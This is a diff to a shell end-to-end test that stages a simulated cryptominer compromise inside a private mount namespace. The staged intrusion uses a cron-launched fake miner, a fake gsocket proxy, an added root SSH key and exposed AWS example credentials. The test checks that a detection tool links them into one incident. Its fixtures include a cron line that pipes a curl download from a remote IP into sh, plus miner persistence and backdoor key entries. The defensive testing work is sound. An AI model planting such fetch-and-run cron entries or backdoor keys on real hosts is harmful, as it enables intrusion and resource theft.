@@ -16,7 +16,18 @@
 # by a shell disguised as "cron" from a plain directory, running from a
 # deleted copy in a dropped directory under /dev/shm: its incident tells
 # who started it (the ancestry), stops its pid first and times its start.
-# e2e-timeout: 150
+# Part 3, live, root (a private mount namespace): the must-be-shown
+# compromise on the running host in one scan.  /etc/cron.d/kworker runs
+# /var/tmp/.x/kworker (a fakeminer mining to the test pool), /var/tmp/.x
+# also holds a dropper script written first, the obscured config and a
+# gsocket proxy; a key was added for root and root's AWS credentials are
+# readable by every user.  One incident ties the miner process, the cron
+# entry, the proxy, the key and the credentials; its timeline runs from the
+# script (the first dropped file, no finding of its own) through the cron
+# entry and the key to the miner's start; its plan stops the pid first.
+# An old, unrelated cron entry stays outside.  Writes to /etc, /root and /var/tmp
+# happen only inside the namespace (tmpfs and bind mounts).
+# e2e-timeout: 240
 . "$(dirname "$0")/lib.sh"
 
 K1=AAAAC3NzaC1lZDI1NTE5AAAAIMs56zHlK6MdnWptnFMjvLg5zDeO8BJlS9lJv9xJ/tSH
@@ -239,4 +250,133 @@ if [ -n "$id" ]; then
 else
 	say "note: no finding for $SHM/.x/gs-netcat in the live scan"
 fi
+
+# ---- part 3: the whole story live, one scan ------------------------------------
+if [ "$MYUID" -ne 0 ] || ! unshare -m true 2>/dev/null; then
+	say "note: part 3 needs root and mount namespaces: skipped"
+	finish
+fi
+need_cmd mount nsenter
+mine_kill_tree "$CP"           # part 2's miner: one miner per scan here
+M=$T/mnt
+mkdir -p "$M/root/.ssh" "$M/root/.aws" "$M/crond" "$M/vartmp"
+chmod 0755 "$M/root" "$M/vartmp"
+chmod 0700 "$M/root/.ssh"
+bg mntns unshare -m --propagation private sleep 200
+NS=$BG_PID
+for i in $(seq 1 50); do
+	[ "$(readlink "/proc/$NS/ns/mnt")" != "$(readlink /proc/self/ns/mnt)" ] && break
+	sleep 0.02
+done
+[ "$(readlink "/proc/$NS/ns/mnt")" != "$(readlink /proc/self/ns/mnt)" ] ||
+	fail "test setup: no private mount namespace"
+IN=(nsenter -t "$NS" -m --)
+"${IN[@]}" sh -c 'mount --bind "$1/root" /root && mount --bind "$1/crond" /etc/cron.d &&
+	mount --bind "$1/vartmp" /var/tmp' sh "$M" ||
+	fail "test setup: the bind mounts failed"
+[ ! -e /var/tmp/.x ] || fail "test setup: the host's /var/tmp/.x exists"
+X=$M/vartmp/.x
+mkdir -p "$X"
+NOW=$(date +%s)
+printf '#!/bin/sh\n# fetched the kit\n' >"$X/a.sh"
+cp "$HELPERS/fakeminer" "$X/kworker"
+mine_cfg "$X/.sess" "stratum+tcp://127.0.0.1:3333" "$(mine_wallet)" xmrig
+printf '\177ELF fake gsocket\n' >"$X/gs-netcat"
+chmod 0755 "$X/a.sh" "$X/kworker" "$X/gs-netcat"
+printf '*/5 * * * * root /var/tmp/.x/kworker -c /var/tmp/.x/.sess >/dev/null 2>&1\n' \
+	>"$M/crond/kworker"
+printf '%s ssh-ed25519 %s cloud\nssh-ed25519 %s x@vps\n' "$STUB" "$K1" "$K1" \
+	>"$M/root/.ssh/authorized_keys"
+chmod 0600 "$M/root/.ssh/authorized_keys"
+printf '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n' \
+	>"$M/root/.aws/credentials"
+chmod 0644 "$M/root/.aws/credentials"
+# unrelated and old: another cron entry that fetches and runs a script
+printf '0 3 * * * root curl -fsSL http://198.51.100.7/sync.sh | sh\n' >"$M/crond/sync"
+T3_DROP=$((NOW - 900))
+at "$T3_DROP" "$X/a.sh"
+at $((T3_DROP + 60)) "$X/.sess"
+at $((T3_DROP + 62)) "$X/kworker"
+at $((T3_DROP + 64)) "$X/gs-netcat"
+at $((T3_DROP + 120)) "$M/crond/kworker"
+at $((T3_DROP + 400)) "$M/root/.ssh/authorized_keys"
+at $((NOW - 72000)) "$M/root/.aws/credentials"
+at $((NOW - 90 * 86400)) "$M/crond/sync"
+"${IN[@]}" test -x /var/tmp/.x/kworker || fail "test setup: /var/tmp/.x is not in the namespace"
+# "cron" runs the entry's command: the miner, from the dropped directory
+bg cron3 "${IN[@]}" "${MINE_ENTER[@]}" "$PLAIN/cron" -c '"$0" "$@"; exit 0' \
+	/var/tmp/.x/kworker -c /var/tmp/.x/.sess -t 60 -N 5
+CP3=$BG_PID
+P3=
+for i in $(seq 1 100); do
+	P3=$(ps -o pid= --ppid "$CP3" 2>/dev/null | tr -d ' ' | head -1)
+	[ -n "$P3" ] && [ "$(readlink "/proc/$P3/exe" 2>/dev/null)" = /var/tmp/.x/kworker ] && break
+	P3=
+	sleep 0.05
+done
+[ -n "$P3" ] || fail "the miner did not start under the cron shell $CP3"
+subs=$(grep -c '^submit ' "$T/pool.out")
+mine_wait pool '^submit ' $((subs + 1)) 20
+
+RM_WRAP=("${IN[@]}")
+rm_json "$T/live3.json" --cpu-window 1 --no-pid-probe
+RM_WRAP=()
+J=$T/live3.json
+expect_finding "$J" RM-MIN-001 "$P3"
+MIN3=$(jq -r .id <<<"$F")
+CRON=$(id_of RM-PER-001 /etc/cron.d/kworker)
+PROXY=$(id_of RM-RES-002 /var/tmp/.x/gs-netcat)
+KEY=$(id_of RM-PER-003 /root/.ssh/authorized_keys)
+CRED=$(id_of RM-CRED-001 /root/.aws/credentials)
+OLD=$(jq -r '[.findings[] | select(.file.path == "/etc/cron.d/sync") | .id][0] // empty' "$J")
+for v in CRON PROXY KEY CRED OLD; do
+	[ -n "${!v}" ] || { dump_findings "$J" >&2; fail "part 3 setup: no finding for $v"; }
+done
+I=$(jq -c --arg f "$MIN3" '[.incidents[] | select(.findings | index($f) != null)][0]' "$J")
+[ "$I" != null ] || fail "the miner's finding $MIN3 is in no incident"
+say "part 3 incident: $(jq -c '{id, severity, summary, story}' <<<"$I")"
+say "part 3 timeline: $(jq -c '[.timeline[] | [.time, .source, .event]]' <<<"$I")"
+for v in CRON PROXY KEY CRED; do
+	ij --arg f "${!v}" '.findings | index($f) != null' ||
+		fail "part 3: the incident lacks $v (${!v}): $(jq -c .findings <<<"$I")"
+done
+ij --arg f "$OLD" '.findings | index($f) == null' ||
+	fail "part 3: the unrelated old cron entry $OLD was tied into the incident"
+ij '.miner == true and (.severity == "high" or .severity == "critical")' ||
+	fail "part 3: miner/severity: $(jq -c '{miner, severity}' <<<"$I")"
+# every member at least high: the confirmed miner raised the rest
+jq -e --argjson ids "$(jq -c .findings <<<"$I")" \
+	'[.findings[] | select(.id as $i | $ids | index($i) != null) | select(.severity != "high" and .severity != "critical")] | length == 0' \
+	"$J" >/dev/null || fail "part 3: a member of the miner's incident is below high"
+ij --arg c "cron ($CP3)" '.story | map(select(startswith("How it started:") and (contains($c) or contains("/etc/cron.d/kworker")))) | length >= 1' ||
+	fail "part 3: the story does not say how it started: $(jq -c .story <<<"$I")"
+# the timeline, in order: the script first (no finding names it), the
+# miner's files, the cron entry, the key, the miner's start
+jq -e '.timeline | map(.time) == (map(.time) | sort)' <<<"$I" >/dev/null ||
+	fail "part 3: timeline out of order"
+tl_at "$(iso "$T3_DROP")" mtime "/var/tmp/.x/a.sh: the oldest file in the dropped directory /var/tmp/.x (first dropped file)"
+tl_at "$(iso $((T3_DROP + 62)))" mtime "/var/tmp/.x/kworker"
+tl_at "$(iso $((T3_DROP + 64)))" mtime "/var/tmp/.x/gs-netcat"
+tl_at "$(iso $((T3_DROP + 120)))" mtime "/etc/cron.d/kworker: cron entry written"
+tl_at "$(iso $((T3_DROP + 400)))" mtime "/root/.ssh/authorized_keys: SSH key file changed"
+ij --arg p "process $P3 " '.timeline | map(select(.source == "start" and (.event | startswith($p)))) | length == 1' ||
+	fail "part 3: no start time for the miner $P3: $(jq -c .timeline <<<"$I")"
+ij '[.timeline[] | select(.event | contains("first dropped file"))] | length == 1' ||
+	fail "part 3: 'first dropped file' is not said once"
+# the plan: stop the miner first, then its persistence, its directory,
+# the key, the credentials
+a_stop=$(act "kill -STOP $P3")
+a_cron=$(act "Remove line 1 of /etc/cron.d/kworker")
+a_dir=$(act "Copy /var/tmp/.x aside as evidence, then remove it")
+a_key=$(act "$FP1")
+a_rot=$(act "Rotate the aws credential AKIA...MPLE in /root/.aws/credentials")
+say "part 3 actions: $(jq -c .actions <<<"$I")"
+for v in a_stop a_cron a_dir a_key a_rot; do
+	[ "${!v}" -ge 0 ] || fail "part 3: no action for $v: $(jq -c .actions <<<"$I")"
+done
+[ "$a_stop" = 0 ] && [ "$a_cron" -lt "$a_dir" ] && [ "$a_dir" -lt "$a_rot" ] &&
+	[ "$a_key" -lt "$a_rot" ] ||
+	fail "part 3: actions out of order: stop $a_stop cron $a_cron dir $a_dir key $a_key rotate $a_rot"
+mine_kill_tree "$CP3"
+kill -KILL "$NS" 2>/dev/null
 finish
